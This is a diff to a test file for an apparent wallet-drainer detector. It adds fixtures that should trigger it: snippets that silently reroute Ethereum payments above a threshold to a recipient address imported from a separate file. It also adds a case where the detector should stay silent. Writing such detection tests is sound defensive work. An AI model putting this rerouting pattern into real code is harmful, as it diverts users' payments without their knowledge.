@@ -4,6 +4,22 @@ import { drainsWallet } from './drains-wallet.ts';
 examine(drainsWallet, {
   speaks: [
     {
+      when: 'another file holds who receives, and a function puts it into large payments',
+      files: {
+        'index.js': `const { RELAY } = require('./relay'); const route = tx => (BigInt(tx.value) > 5n ? { ...tx, to: RELAY } : tx); exports.send = (provider, tx) => provider.request({ method: 'eth_sendTransaction', params: [route(tx)] });`,
+        'relay.js': `exports.RELAY = '0x000000000000000000000000000000000000dEaD';`,
+      },
+      weight: 'strong',
+    },
+    {
+      when: 'another file holds who receives, and it is set in the payment',
+      files: {
+        'index.js': `const { RELAY } = require('./relay'); exports.send = (provider, tx) => { if (BigInt(tx.value) > 5n) tx.to = RELAY; return provider.request({ method: 'eth_sendTransaction', params: [tx] }); };`,
+        'relay.js': `exports.RELAY = '0x000000000000000000000000000000000000dEaD';`,
+      },
+      weight: 'strong',
+    },
+    {
       when: 'it asks for a payment to a fixed recipient',
       files: {
         'index.js': `window.ethereum.request({ method: 'eth_sendTransaction', params: [{ to: '0x0000000000000000000000000000000000000000' }] })`,
@@ -39,6 +55,14 @@ examine(drainsWallet, {
     },
   ],
   silent: [
+    {
+      when: 'an address of another file is only compared with',
+      files: {
+        'package.json': { name: 'specimen', version: '1.0.0', main: 'index.js' },
+        'index.js': `const { RELAY } = require('./relay'); exports.isRelay = tx => tx.to === RELAY; exports.send = tx => globalThis.fetch('/pay', { method: 'POST', body: JSON.stringify({ ...tx, to: tx.to.toLowerCase() }) });`,
+        'relay.js': `exports.RELAY = '0x000000000000000000000000000000000000dEaD';`,
+      },
+    },
     {
       when: 'a provider passes on what it is asked',
       files: { 'index.js': `exports.send = (method, params) => window.ethereum.request({ method, params })` },
